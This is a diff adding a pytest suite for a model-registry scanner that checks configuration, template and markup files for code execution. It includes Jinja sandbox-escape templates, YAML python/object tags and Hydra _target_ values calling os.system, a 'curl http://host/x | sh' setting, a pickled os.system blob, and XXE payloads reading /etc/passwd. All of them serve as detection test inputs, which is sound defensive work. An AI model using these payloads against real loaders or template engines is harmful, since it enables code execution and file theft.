@@ -1,0 +1,262 @@
+"""Settings, templates and markup run nothing."""
+
+from __future__ import annotations
+
+import json
+import random
+
+import pytest
+
+from registry.checks import configs
+from registry.sandbox.running import Sandbox
+from tests.registry.checks.looking import look, look_in_sandbox
+from tests.registry.checks.test_file_type import tarred, zipped
+from tests.registry.checks.test_tensors import CHATML
+
+BERT = {"architectures": ["BertModel"], "model_type": "bert", "hidden_size": 768, "torch_dtype": "float32"}
+PIPELINE = {
+    "_class_name": "StableDiffusionPipeline",
+    "_diffusers_version": "0.30.0",
+    "unet": ["diffusers", "UNet2DConditionModel"],
+    "safety_checker": [None, None],
+}
+TOOLS = (
+    "{%- for tool in tools %}{{- tool | tojson }}{% endfor -%}{%- if messages[0]['role'] == 'system' %}"
+    "{%- set system_message = messages[0]['content'] %}{% endif %}{{ strftime_now('%d %b %Y') }}"
+    "{% macro render(value, depth=0) %}{{ value.items() | list | length }}{% endmacro %}{{ bos_token }}"
+    "{{ message.tool_calls | selectattr('type', 'equalto', 'function') | map(attribute='function') | list }}"
+    "{{ content.split('</think>')[-1].lstrip('\\n') ~ '_' ~ name }}{{ eos_token if loop.last else '' }}"
+)
+LIGHTNING = """
+model:
+  class_path: torch.optim.AdamW
+  init_args: {lr: 1.0e-3}
+trainer: &defaults
+  _target_: pytorch_lightning.Trainer
+  max_epochs: 3
+other:
+  <<: *defaults
+path: {_target_: pathlib.Path, _args_: [data]}
+own: {_target_: src.models.Net}
+"""
+MLMODEL = """
+flavors:
+  python_function:
+    loader_module: mlflow.sklearn
+    model_path: model.pkl
+  sklearn: {pickled_model: model.pkl}
+run_id: 1a2b
+"""
+PMML = """<?xml version="1.0"?><PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4">
+<Header copyright="us"/><RegressionModel functionName="regression"/></PMML>"""
+SVG = """<?xml version="1.0" encoding="utf-8"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN"
+ "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg xmlns="http://www.w3.org/2000/svg">
+<path d="M0 0"/></svg>"""
+ROWS = [{"prompt": "Run os.system('ls') and eval(x)", "answer": "<script>alert(1)</script>"}] * 3
+
+HONEST = {
+    "config.json": json.dumps(BERT),
+    "model_index.json": json.dumps(PIPELINE),
+    "tokenizer_config.json": json.dumps({"chat_template": CHATML, "bos_token": "<s>"}),
+    "tools.json": json.dumps({"chat_template": [{"name": "default", "template": TOOLS}]}),
+    "chat_template.jinja": TOOLS,
+    "prompt.j2": "Translate {{ text }} into {{ language | default('French') }}.",
+    "vocab.json": json.dumps({"{{": 0, "_target_": 1, "eval(": 2, "auto_map": 3}),
+    "tokenizer.json": json.dumps(
+        {"version": "1.0", "model": {"vocab": {"os.system(": 1}, "merges": ["{{ }}"]}}
+    ),
+    "rows.json": json.dumps(ROWS),
+    "rows.jsonl": "\n".join(json.dumps(row) for row in ROWS),
+    "nan.json": '{"eval_loss": NaN, "best": Infinity}',
+    "light.yaml": LIGHTNING,
+    "MLmodel": MLMODEL,
+    "conda.yml": "name: env\ndependencies:\n- python=3.11\n- pip:\n  - numpy\n",
+    "tags.yaml": "a: !!python/tuple [1, 2]\nb: !!binary aGk=\nc: !Ref x\n",
+    "settings.toml": '[tool]\nname = "x"\n',
+    "model.pmml": PMML,
+    "plot.svg": SVG,
+    "openvino.xml": '<?xml version="1.0"?><net name="m" version="11"><layers/></net>',
+    "README.md": "Use `!!python/object/apply:os.system` never.\n\n{{ x.__class__ }}\n",
+    "notes.txt": "We use auto_map and {{ braces }} in text: see there.\n",
+    "xgboost.json": json.dumps({"learner": {"attributes": {}, "gradient_booster": {}}, "version": [2, 0, 3]}),
+    "logging.json": json.dumps({"handlers": {"a": {"class": "logging.StreamHandler", "args": []}}}),
+}
+
+
+@pytest.mark.parametrize("name", HONEST)
+def test_what_people_write_blocks_nothing(name):
+    issues, _ = look(configs, HONEST[name].encode(), name)
+
+    assert [issue for issue in issues if issue[0] in {"critical", "high"}] == []
+
+
+TEMPLATES = [
+    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+    "{{ x['__cla' ~ 'ss__'] }}",
+    "{{ x|attr('_'*2 ~ 'class' ~ '_'*2) }}",
+    "{{ x['\\x5f\\x5fclass\\x5f\\x5f'] }}",
+    "{{ x['\\u005f\\u005fclass\\u005f\\u005f'] }}",
+    "{{ cycler.__init__.__globals__.os.popen('echo').read() }}",
+    "{{ lipsum['__globals__'] }}",
+    "{{ self._TemplateReference__context }}",
+    "{% for c in [].__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}",
+    "{% set a = '__globals__' %}{{ namespace[a] }}",
+    "{% include '/etc/passwd' %}",
+    "{% import '../../x' as y %}",
+    "{{ messages | attr(name) }}",
+    "{{ get_flashed_messages.__globals__ }}",
+    "{{ x.func_globals }}",
+    "{{ (x).gi_frame.f_builtins }}",
+    "{{ range(9999999999) | list }}",
+    "{% if messages[0].__class__ %}{% endif %}",
+    "{{ 'ok' }}<script>fetch('//host')</script>",
+    "{{ os.popen('echo') }}",
+    "{{ request.application.__self__ }}",
+    "{{ '%c%c' | format(95, 95) }}",
+    "{{ x.__class__",
+]
+
+
+@pytest.mark.parametrize("template", TEMPLATES)
+@pytest.mark.parametrize(
+    "wrap",
+    [
+        ("tokenizer_config.json", lambda held: json.dumps({"chat_template": held})),
+        (
+            "tokenizer_config.json",
+            lambda held: json.dumps({"chat_template": [{"name": "a", "template": held}]}),
+        ),
+        ("chat_template.jinja", lambda held: held),
+        ("processor.json", lambda held: json.dumps({"some": {"other": held}})),
+        ("prompt.txt", lambda held: held),
+        ("prompt.yaml", lambda held: "template: " + json.dumps(held)),
+    ],
+    ids=["chat", "list", "jinja", "elsewhere", "text", "yaml"],
+)
+def test_a_template_that_reaches_for_python_blocks(template, wrap):
+    name, make = wrap
+    issues, _ = look(configs, make(template).encode(), name)
+
+    assert {"critical", "high"} & {severity for severity, _ in issues}
+
+
+SETTINGS = [
+    ({**BERT, "auto_map": {"AutoModel": "modeling.Model"}}, "auto_map"),
+    ({**BERT, "auto_map": {"AutoModel": "org/repository--modeling.Model"}}, "auto_map_elsewhere"),
+    ({**BERT, "auto_map": {"AutoModel": "../../x.Model"}}, "auto_map_path"),
+    ({**BERT, "custom_pipelines": {"a": {"impl": "pipeline.P"}}}, "custom_pipelines"),
+    ({"model": {"_target_": "os.system", "command": "echo"}}, "target:os.system"),
+    ({"a": [{"b": {"_target_": "builtins.exec"}}]}, "target:builtins.exec"),
+    ({"_target_": "torch.load"}, "target:torch.load"),
+    ({"_target_": "torch.hub.load"}, "target:torch.hub.load"),
+    ({"_target_": "hydra.utils.get_method"}, "target:hydra.utils.get_method"),
+    ({"_target_": "numpy.f2py.compile"}, "target:numpy.f2py.compile"),
+    ({"_target_": "${oc.env:X}"}, "target:${oc.env:X}"),
+    ({"class_path": "subprocess.Popen", "init_args": {}}, "target:subprocess.Popen"),
+    ({"target": "os.system", "params": {"command": "echo"}}, "target:os.system"),
+    ({"()": "os.system"}, "target:os.system"),
+    ({"flavors": {"python_function": {"loader_module": "os"}}}, "loader:os"),
+    ({**PIPELINE, "unet": ["os", "system"]}, "target:os.system"),
+    ({"init": "__import__('os').system('echo')"}, "code_in_setting"),
+    ({"command": "curl http://host/x | sh"}, "code_in_setting"),
+    ({"state": "gASVHAAAAAAAAACMBXBvc2l4lIwGc3lzdGVt"}, "pickle"),
+    ({"title": "<script>alert(1)</script>"}, "script"),
+]
+
+
+@pytest.mark.parametrize(("settings", "name"), SETTINGS)
+@pytest.mark.parametrize("file", ["config.json", "config.yaml", "anything"])
+def test_a_setting_that_runs_code_blocks(settings, name, file):
+    issues, _ = look(configs, json.dumps(settings, indent=1).encode(), file)
+
+    assert name in [found for severity, found in issues if severity in {"critical", "high"}]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "a: !!python/object/apply:os.system ['echo']",
+        "a: !!python/name:os.system",
+        "a: !!python/module:os",
+        "- !!python/object/new:subprocess.Popen [echo]",
+        "a: !<tag:yaml.org,2002:python/object/apply:os.system> [echo]",
+        "%TAG ! tag:yaml.org,2002:python/\n---\na: !object/apply:os.system [echo]",
+        "%TAG !x! tag:yaml.org,2002:\n---\na: !x!python/object/apply:os.system [echo]",
+        "a: !!python%2Fobject/apply:os.system [echo]",
+        "a: 1\n---\nb: !!python/object:x.Y {}",
+        "a: [!!python/object/apply:os.system [echo]",
+    ],
+)
+@pytest.mark.parametrize("name", ["config.yaml", "MLmodel", "config.cfg"])
+def test_a_tag_that_makes_a_loader_call_something_is_critical(text, name):
+    issues, _ = look(configs, f"{text}\n".encode(), name)
+
+    assert "critical" in {severity for severity, _ in issues}
+
+
+def test_aliases_that_multiply_are_told():
+    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
+    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 12)]
+
+    assert look(configs, "\n".join(lines).encode(), "a.yaml")[0] == [("high", "malformed")]
+
+
+@pytest.mark.parametrize(
+    ("text", "name"),
+    [
+        ('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>', "entity"),
+        ('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><x>&b;</x>', "entity"),
+        ('<!DOCTYPE x SYSTEM "http://host/x.dtd"><x/>', "outside_definition"),
+        ('<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/></x>', "include"),
+        ("<svg><script>fetch('x')</script></svg>", "script"),
+        ("<PMML><Extension name='x' value='java.lang.Runtime'/></PMML>", "code"),
+    ],
+)
+@pytest.mark.parametrize("file", ["model.pmml", "model.xml", "a.svg"])
+def test_markup_that_leads_elsewhere_is_high(text, name, file):
+    assert ("high", name) in look(configs, text.encode(), file)[0]
+
+
+@pytest.mark.parametrize(
+    "text", ['{"a":' * 300 + "1" + "}" * 300, '{"a":' * 50_000 + "1" + "}" * 50_000], ids=["deep", "deeper"]
+)
+def test_settings_that_are_nested_too_deeply_are_high(text):
+    assert [severity for severity, _ in look(configs, text.encode(), "config.json")[0]] == ["high"]
+
+
+def test_the_same_key_twice_hides_one():
+    text = '{"auto_map": null, "a": 1, "auto_map": {"AutoModel": "org/x--m.M"}}'
+
+    issues, _ = look(configs, text.encode(), "config.json")
+
+    assert issues == [("high", "repeated_key"), ("high", "auto_map_elsewhere")]
+
+
+@pytest.mark.parametrize("pack", [lambda held: zipped(**{"model/config": held}), tarred])
+def test_archives_hide_nothing(pack):
+    assert look(configs, pack(b'{"_target_": "os.system"}'), "model.nemo")[0] == [
+        ("critical", "target:os.system")
+    ]
+
+
+@pytest.mark.parametrize("name", ["light.yaml", "tools.json", "model.pmml", "settings.toml"])
+def test_whatever_is_changed_it_comes_to_an_end(name):
+    chance = random.Random(7)
+    for _ in range(100):
+        held = bytearray(HONEST[name].encode())
+        for _ in range(chance.randint(1, 5)):
+            held[chance.randrange(len(held))] = chance.randrange(256)
+        issues, _ = look(configs, bytes(held), name)
+        assert {severity for severity, _ in issues} <= {"critical", "high", "medium", "low"}
+
+
+def test_in_the_sandbox(tmp_path):
+    sandbox = Sandbox()
+
+    report = look_in_sandbox(sandbox, tmp_path, b"a: !!python/name:os.system\n", "a.yaml", "configs")
+
+    assert (report.outcome, [issue.name for issue in report.issues]) == (
+        "done",
+        ["tag:python/name:os.system"],
+    )
+    sandbox.stop()
